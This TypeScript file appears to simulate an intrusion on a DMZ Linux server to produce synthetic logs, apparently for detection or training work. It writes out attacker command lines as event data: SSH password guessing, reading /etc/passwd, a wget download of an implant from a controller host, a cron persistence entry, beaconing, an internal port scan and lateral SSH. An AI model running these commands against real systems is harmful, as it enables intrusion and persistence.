// The second story: passwords guessed on the server in the DMZ, a job in cron, and a program that calls home from there.
import type { World } from '../world.ts';
import { createHash } from 'node:crypto';
import { NO_LOGIN, type LinuxProcess } from '../linux/machine.ts';
import { LINUX_CONTROLLER, SSH_ATTACKER } from './attacker.ts';

const MINUTE = 60_000;
const GUESSES = [
  'root',
  'admin',
  'test',
  'ubuntu',
  'postgres',
  'oracle',
  'git',
  'www-data',
  'deploy',
  'backup',
  'nagios',
  'user',
];
const DEPLOY = { name: 'deploy', uid: 1001 } as const;
const HIDDEN = '/var/tmp/.sysd';
const IMPLANT = `${HIDDEN}/upd`;

/** Schedules the story so that it begins at `at` and the implant still calls home at `until`. */
export function webServerStory(world: World, at: number, until: number): void {
  const server = world.linuxServer('web01');
  const { machine } = server;
  world.schedule({ at, play: () => guess(at) });
  world.schedule({ at: at + 26 * MINUTE, play: () => settle(at + 26 * MINUTE) });

  /** Some four hundred guesses; the last one is right. */
  function guess(from: number): void {
    for (let ts = from; ts < from + 25 * MINUTE; ts += machine.random.between(2500, 5000)) {
      const account = machine.random.pick(GUESSES);
      const child = machine.exec({
        ts,
        parent: server.sshd,
        path: '/usr/sbin/sshd',
        commandLine: '/usr/sbin/sshd -D -R',
        uid: 0,
        auid: NO_LOGIN,
      });
      machine.socket(
        server.sshd,
        ts - 5,
        'accept',
        { ip: SSH_ATTACKER, port: machine.random.between(32_768, 60_999) },
        22,
      );
      machine.authentication(
        child,
        ts + 900,
        1100,
        `op=PAM:authentication grantors=? acct="${account}" exe="/usr/sbin/sshd" hostname=${SSH_ATTACKER} addr=${SSH_ATTACKER} terminal=ssh res=failed`,
        SSH_ATTACKER,
      );
    }
  }

  function settle(from: number): void {
    const shell = server.ssh(from, DEPLOY, SSH_ATTACKER, 'password');
    const home = '/home/deploy';
    const type = (ts: number, path: string, commandLine: string, parent: LinuxProcess = shell): LinuxProcess =>
      machine.exec({ ts, parent, path, commandLine, directory: home });
    let ts = from + 8000;
    for (const [path, commandLine] of [
      ['/usr/bin/id', 'id'],
      ['/usr/bin/uname', 'uname -a'],
      ['/usr/bin/cat', 'cat /etc/passwd'],
      ['/usr/bin/ss', 'ss -antp'],
      ['/usr/bin/mkdir', `mkdir -p ${HIDDEN}`],
    ] as const)
      type((ts += machine.random.between(2000, 12_000)), path, commandLine);

    const fetch = type((ts += 9000), '/usr/bin/wget', `wget -q -O ${IMPLANT} http://${LINUX_CONTROLLER.ip}:8080/upd`);
    machine.socket(fetch, ts + 200, 'connect', { ip: LINUX_CONTROLLER.ip, port: 8080 });
    const sha256 = createHash('sha256').update('upd/1').digest('hex');
    machine.file(ts + 900, 'tmp', IMPLANT, 'CREATED', sha256);
    machine.add('yara_events', ts + 1800, {
      target_path: IMPLANT,
      category: 'tmp',
      action: 'CREATED',
      matches: 'Linux_Backdoor_Generic,Suspicious_ELF_In_Tmp',
      count: '2',
      strings: '$s1:2f0,$magic:0',
      tags: '',
      time: String(Math.floor((ts + 1800) / 1000)),
      eid: '0000900001',
      transaction_id: '0',
    });
    type((ts += 6000), '/usr/bin/chmod', `chmod +x ${IMPLANT}`);

    // Every five minutes, whoever logs in or restarts the machine.
    const editor = type(
      (ts += 15_000),
      '/usr/bin/bash',
      `bash -c (crontab -l 2>/dev/null; echo "*/5 * * * * ${IMPLANT} -q >/dev/null 2>&1") | crontab -`,
    );
    type(ts + 40, '/usr/bin/crontab', 'crontab -l', editor);
    type(ts + 60, '/usr/bin/crontab', 'crontab -', editor);
    machine.file(ts + 400, 'cron', '/var/spool/cron/crontabs/deploy', 'CREATED');
    machine.add('crontab', ts + 900, {
      event: '',
      minute: '*/5',
      hour: '*',
      day_of_month: '*',
      month: '*',
      day_of_week: '*',
      command: `${IMPLANT} -q >/dev/null 2>&1`,
      path: '/var/spool/cron/crontabs/deploy',
    });

    callHome(ts + 2 * MINUTE);
    lookInside(ts + 55 * MINUTE, shell);
  }

  function callHome(from: number): void {
    for (let start = from; start < until; start += 5 * MINUTE) {
      const job = machine.exec({
        ts: start,
        parent: server.cron,
        path: '/usr/bin/dash',
        commandLine: `/bin/sh -c ${IMPLANT} -q >/dev/null 2>&1`,
        uid: DEPLOY.uid,
        auid: DEPLOY.uid,
      });
      const implant = machine.exec({
        ts: start + 30,
        parent: job,
        path: IMPLANT,
        commandLine: `${IMPLANT} -q`,
        uid: DEPLOY.uid,
        auid: DEPLOY.uid,
        directory: HIDDEN,
      });
      for (let beat = 0; beat < 5; beat++)
        machine.socket(implant, start + 400 + beat * MINUTE, 'connect', LINUX_CONTROLLER);
    }
  }

  /** From the DMZ inwards: doors that should be closed are tried. */
  function lookInside(from: number, shell: LinuxProcess): void {
    const inner = world.company.linux.filter((host) => !host.dmz);
    const scan = machine.exec({
      ts: from,
      parent: shell,
      path: `${HIDDEN}/sc`,
      commandLine: `${HIDDEN}/sc 10.20.2.0/24 22,1433,3389,5432,8080`,
      directory: HIDDEN,
    });
    inner.forEach((host, index) => {
      for (const [offset, port] of [22, 1433, 3389, 5432, 8080].entries())
        machine.socket(scan, from + 300 + index * 900 + offset * 120, 'connect', { ip: host.ip, port });
    });
    const ssh = machine.exec({
      ts: from + 4 * MINUTE,
      parent: shell,
      path: '/usr/bin/ssh',
      commandLine: `ssh -o StrictHostKeyChecking=no deploy@${inner[0]!.ip}`,
      directory: '/home/deploy',
    });
    machine.socket(ssh, from + 4 * MINUTE + 50, 'connect', { ip: inner[0]!.ip, port: 22 });
  }
}
